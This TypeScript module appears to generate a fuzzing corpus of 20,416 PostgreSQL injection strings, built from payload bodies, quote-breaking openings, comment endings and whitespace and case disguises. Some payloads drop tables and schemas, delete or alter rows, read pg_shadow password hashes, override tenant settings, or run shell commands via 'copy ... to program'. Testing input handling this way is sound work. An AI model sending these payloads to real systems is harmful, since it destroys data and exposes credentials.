const delay = 'select pg_sleep(9)'

/** What each payload wants to be done: end the text, add a condition, a statement, a delay, or make an error. */
const bodies: readonly string[] = [
  "or '1'='1",
  'or 1=1',
  'or true',
  "and '1'='2",
  `; ${delay}`,
  `and 1=(${delay})`,
  `|| (${delay})`,
  `union ${delay}`,
  'union select null',
  'union select null,null,null',
  'union all select version()',
  'union select passwd from pg_shadow',
  '; drop table users',
  '; drop schema vault cascade',
  '; delete from users',
  "; update users set user_name='pwned'",
  "; set app.tenant_id='00000000-0000-0000-0000-000000000000'",
  '; reset role',
  "; copy (select 1) to program 'touch /tmp/pwned'",
  'and 1=cast((select version()) as int)',
  'and extractvalue(1,1)',
  'order by 1000',
  'limit 1 offset 10000000',
  'returning *',
  'is null',
  'like %',
  'similar to (a|b)*',
  '::int',
  "= any(array['a'])",
]
const openings: readonly string[] = [
  '',
  "'",
  '"',
  "')",
  "'))",
  '")',
  '\\',
  "\\'",
  '$$',
  "';",
  '1',
  '0x27',
  '%27',
  'ʼ',
  "E'\\",
  '}',
]
const endings: readonly string[] = ['', '--', '-- -', '#', '/*', "'", '"', ';', ';--', '/**/', '%00']
const disguises: readonly ((text: string) => string)[] = [
  text => text,
  text => text.replaceAll(' ', '/**/'),
  text => text.toUpperCase(),
  text => text.replaceAll(' ', '\t'),
]

/** Every combination, in an order that mixes them: 20,416 in all. */
export const sqlPayloads: readonly string[] = bodies
  .flatMap(body => openings.flatMap(start => endings.map(end => `${start} ${body} ${end}`)))
  .flatMap(text => disguises.map(disguise => disguise(text)))
  .map((text, at) => ({ text, place: (at * 7_919) % 20_441 }))
  .toSorted((one, other) => one.place - other.place)
  .map(({ text }) => text)
